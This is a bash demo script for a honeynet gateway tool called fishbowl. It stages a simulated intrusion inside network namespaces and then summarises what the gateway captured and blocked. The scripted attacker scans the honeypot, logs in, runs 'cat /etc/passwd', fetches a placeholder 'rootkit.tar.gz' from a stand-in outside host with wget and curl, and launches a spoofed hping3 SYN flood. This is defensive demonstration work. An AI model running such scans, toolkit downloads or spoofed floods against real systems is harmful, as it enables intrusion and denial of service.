#!/bin/bash
# demo: a honeynet in network namespaces with fishbowl as its gateway, a
# scripted intrusion, what fishbowl recorded and what it stopped.
#
#   the Internet (203.0.113.0/24, attacker 203.0.113.66, a "toolkit" web
#   server) --- fishbowl (transparent bridge) --- honeypot 10.99.0.130
#   running real services: a web server (80) and a login service (23)
#
# The attack: an nmap SYN scan, a login on port 23 and a few commands; then,
# from the compromised honeypot, 5 downloads from the toolkit server (the
# limit is 3 new TCP connections an hour), a spoofed SYN flood (hping3) and a
# ping out (ICMP is blocked).  Then `fishbowl status`, a summary of the
# capture, and the data directory left in demo/out/.  Run as root (make demo).
set -u
cd "$(dirname "$0")/.." || exit 1
ROOT=$PWD
FB_BUILD=${FB_BUILD:-build}
case $FB_BUILD in /*) ;; *) FB_BUILD=$ROOT/$FB_BUILD ;; esac
FISHBOWL=$FB_BUILD/fishbowl
OUT=$ROOT/demo/out

die() { echo "demo: $*" >&2; exit 1; }
[ "$(id -u)" = 0 ] || die "run as root (network namespaces)"
[ -x "$FISHBOWL" ] || die "no $FISHBOWL (run make first)"
for t in ip nmap curl hping3 tcpdump python3 socat ss; do
	command -v $t >/dev/null || die "$t is missing (scripts/deps.sh installs it)"
done

FBN_PREFIX=fbdemo$$
FBN_FISHBOWL=$FISHBOWL
. "$ROOT/tests/netns/lib-netns.sh"
fbn_init || die "cannot make a work directory"
W=$FBN_WORK
T="python3 $W/tools.py"
HP=$FBN_HP_ADDR

step() { printf '\n\033[1m== %s\033[0m\n' "$*"; }
say() { printf '   %s\n' "$*"; }

step "1. the honeynet: outside (Internet + router), gateway, honeypot namespaces"
fbn_up || die "cannot build the namespaces"
say "outside: router $FBN_RTR_ADDR, attacker $FBN_ATTACKER, toolkit server 203.0.113.80"
say "honeypot: $HP, default route via $FBN_RTR_ADDR; fishbowl bridges gwo <-> gwh (no addresses)"

# The honeypot's services: a web site and a login service with a toy shell.
mkdir -p "$W/www" "$W/toolkit"
echo "<h1>ACME intranet</h1>" >"$W/www/index.html"
head -c 20000 /dev/urandom >"$W/toolkit/rootkit.tar.gz"
cat >"$W/login.py" <<'EOF'
import sys, time
w = sys.stdout.write
def line():
    s = sys.stdin.readline()
    if not s:
        sys.exit(0)
    return s.strip()
w("\r\nDebian GNU/Linux 12 acme-web\r\nacme-web login: "); sys.stdout.flush()
user = line()
w("Password: "); sys.stdout.flush()
line()
w("Last login: Thu Nov 26 09:12:01 2026 from 10.99.0.1\r\n")
answers = {
    "id": "uid=1000(%s) gid=1000(%s) groups=1000(%s)" % (user, user, user),
    "uname -a": "Linux acme-web 6.1.0-13-amd64 #1 SMP Debian x86_64 GNU/Linux",
    "w": " 09:14:02 up 41 days,  1 user,  load average: 0.00, 0.01, 0.00",
    "cat /etc/passwd": "root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33::/var/www:/usr/sbin/nologin",
}
while True:
    w("%s@acme-web:~$ " % user); sys.stdout.flush()
    c = line()
    if c in ("exit", "logout"):
        w("logout\r\n"); break
    w(answers.get(c, "") + ("\r\n" if c in answers else ""))
    if c.startswith("wget"):
        w("Connecting to 203.0.113.80:80... connected.\r\n")
    sys.stdout.flush()
EOF
cat >"$W/attacker.py" <<'EOF'
import socket, sys, time
s = socket.create_connection((sys.argv[1], 23), timeout=5)
def send(t):
    time.sleep(0.3)
    s.sendall(t.encode() + b"\n")
for t in ["admin", "admin123", "id", "uname -a", "w", "cat /etc/passwd",
          "wget http://203.0.113.80/rootkit.tar.gz", "exit"]:
    send(t)
time.sleep(0.5)
s.settimeout(2)
buf = b""
try:
    while True:
        d = s.recv(4096)
        if not d:
            break
        buf += d
except OSError:
    pass
for l in buf.decode(errors="replace").replace("\r", "").split("\n"):
    print("   | " + l)
EOF
fbn_bg "$FBN_HP" python3 -m http.server -d "$W/www" -b 0.0.0.0 80 >/dev/null 2>&1
fbn_bg "$FBN_HP" socat TCP-LISTEN:23,fork,reuseaddr EXEC:"python3 -u $W/login.py"
fbn_bg "$FBN_OUT" python3 -m http.server -d "$W/toolkit" -b 0.0.0.0 80 >/dev/null 2>&1
for p in 80 23; do fbn_wait_port "$FBN_HP" $p || die "honeypot service $p did not start"; done
fbn_wait_port "$FBN_OUT" 80 || die "toolkit server did not start"
say "honeypot services: http (80), login (23); outside: toolkit http server (80)"

step "2. fishbowl starts as the gateway"
fbn_conf demo <<'EOF'
[control]
tcp = 3/hour
udp = 3/hour
icmp = block
other = block
rate = 512kbit
EOF
sed 's/^/   /' "$FBN_CONF"
fbn_start || die "fishbowl did not start: $(tail -5 "$FBN_FB_LOG")"
say "fishbowl run -c $FBN_CONF   (pid $FBN_FB_PID, control socket $FBN_SOCK)"

step "3. the attacker scans the honeypot (nmap -sS from $FBN_ATTACKER)"
inO nmap -n -Pn -sS -T4 --max-retries 1 -p 1-1024 $HP 2>&1 | grep -E '^[0-9]+/tcp|scanned' | sed 's/^/   /'

step "4. the attacker logs in on port 23 and looks around"
inO python3 "$W/attacker.py" $HP

step "5. the intruder, on the honeypot, fetches a toolkit 5 times (limit: 3 new TCP/hour)"
for i in 1 2 3 4 5; do
	if inH curl -s -m 3 -o /dev/null -w '%{http_code} %{size_download}' \
	    http://203.0.113.80/rootkit.tar.gz >"$W/curl.$i" 2>/dev/null; then
		say "download $i: HTTP $(cut -d' ' -f1 "$W/curl.$i"), $(cut -d' ' -f2 "$W/curl.$i") bytes"
	else
		say "download $i: failed (connection timed out)"
	fi
done

step "6. the intruder floods a victim with spoofed SYNs (hping3 -a 198.51.100.7, 500 packets)"
fbn_tcpdump "$FBN_OUT" o0 "$W/victim.pcap" 'host 198.51.100.7' || true
inH hping3 -q -S -a 198.51.100.7 -p 80 -c 500 -i u1000 203.0.113.99 >/dev/null 2>&1
sleep 0.3
fbn_tcpdump_stop
say "frames from 198.51.100.7 seen on the Internet side: $(fbn_count "$W/victim.pcap")"

step "7. the intruder pings out (icmp = block)"
say "sent, answered: $(inH $T ping 203.0.113.80 3 0.2 0.5)"

step "8. fishbowl status"
"$FISHBOWL" status -s "$FBN_SOCK" | sed 's/^/   /'
fbn_stop || say "(fishbowl exited non-zero: see $FBN_FB_LOG)"

step "9. what was captured and what was blocked"
rm -rf "$OUT"
mkdir -p "$OUT"
cp -r "$FBN_DATA" "$OUT/data"
cp "$FBN_CONF" "$OUT/fishbowl.conf"
cp "$FBN_FB_LOG" "$OUT/fishbowl.log"
frames=0
for f in "$OUT"/data/????-??-??/packets/*.pcap; do
	[ -f "$f" ] && frames=$((frames + $(tcpdump -n -r "$f" 2>/dev/null | wc -l)))
done
python3 - "$OUT/data" "$frames" <<'EOF'
import glob, json, sys, collections
d, frames = sys.argv[1], sys.argv[2]
def rd(name):
    out = []
    for p in sorted(glob.glob(d + "/????-??-??/" + name)):
        for l in open(p):
            try:
                out.append(json.loads(l))
            except ValueError:
                pass
    return out
C, A = rd("conn.jsonl"), rd("alerts.jsonl")
p = lambda s: print("   " + s)
p("packets: %s frames in %d pcap file(s)" % (frames, len(glob.glob(d + "/*/packets/*.pcap"))))
by = collections.Counter((c.get("dir"), c.get("proto"), c.get("verdict")) for c in C)
p("connections: %d records" % len(C))
for (di, pr, v), k in sorted(by.items(), key=lambda x: -x[1]):
    p("  %6d %-8s %-5s %s" % (k, di, pr, v))
inb = [c for c in C if c.get("dir") == "inbound"]
p("inbound: %d connections from %s to %d distinct ports" % (
    len(inb), ",".join(sorted(set(c.get("src", "?") for c in inb))),
    len(set(c.get("dport") for c in inb))))
out = [c for c in C if c.get("dir") == "outbound"]
for c in sorted(out, key=lambda c: c.get("ts", "")):
    p("outbound: %s %s:%s -> %s:%s  %s (%s)" % (c.get("proto"), c.get("src"), c.get("sport"),
      c.get("dst"), c.get("dport"), c.get("verdict"), c.get("reason")))
pa = collections.Counter((a.get("prio"), a.get("type")) for a in A)
p("alerts: %d" % len(A))
order = {"critical": 0, "high": 1, "medium": 2, "low": 3}
for (pr, ty), k in sorted(pa.items(), key=lambda x: (order.get(x[0][0], 9), x[0][1])):
    p("  %6d %-8s %s" % (k, pr, ty))
for a in A:
    if a.get("prio") == "critical" or a.get("type") == "state":
        p("  %s %-8s %s" % (a.get("ts", "")[11:19], a.get("prio"), a.get("msg")))
EOF
say ""
say "everything is in demo/out/: data/ (pcap, conn.jsonl, alerts.jsonl, state), fishbowl.conf, fishbowl.log"
say "try: tcpdump -n -r demo/out/data/*/packets/00001.pcap 'tcp port 23' -A | less"
step "10. cleaning up the namespaces"
